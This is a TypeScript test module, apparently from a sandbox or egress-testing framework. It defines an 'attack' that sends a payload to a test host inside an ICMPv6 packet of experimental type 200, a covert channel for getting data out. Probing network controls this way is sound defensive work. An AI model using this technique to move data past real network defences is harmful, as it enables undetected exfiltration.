import type { Attack } from '../../prove/attack.ts'
import { icmpPacket } from '../../prove/packet.ts'

export default {
  tries: 'carries data in an ICMPv6 type for experiments',
  assumes: ['net_raw'],
  run: async ({ ask, name, packet, own, open, payload }) => {
    await ask(name('open'), 'AAAA')
    packet(icmpPacket({ source: own[6], destination: open[6] }, 200, 0, Buffer.concat([new Uint8Array(4), payload])))
  },
} satisfies Attack
